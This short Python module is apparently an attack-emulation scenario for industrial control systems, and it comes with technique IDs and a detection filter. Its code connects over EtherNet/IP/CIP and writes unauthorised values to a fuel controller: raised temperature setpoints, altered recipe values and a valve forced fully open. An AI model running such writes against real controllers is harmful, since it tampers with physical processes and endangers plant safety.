"""Setpoint and recipe tags of the fuel controller are written by the workstation."""

from __future__ import annotations

from cpppo.server.enip import client as enip

from ..node import Node

TITLE = "CIP tags of the fuel controller written by a client that never wrote"
TECHNIQUES = ("T1692.001", "T0836")
ORIGIN = "ews"
ENTITIES = ("ews", "plc-fuel")
EVIDENCE = "cip.sc == 0x4d && ip.src == 10.20.3.20"

WRITES = (
    "Setpoint_Temp[0-1]=(REAL)1180.0,1180.0",
    "Setpoint_Ratio[0]=(REAL)0.2",
    "Recipe[0-3]=(DINT)7,7,7,7",
    "Valve_Pos[0]=(REAL)100.0",
)


def run(node: Node) -> None:
    """Write Tag for each."""
    with enip.connector(host=node.peer("plc-fuel"), timeout=3) as link:
        for _ in link.synchronous(operations=enip.parse_operations(WRITES), timeout=3):
            node.pause(0.6)
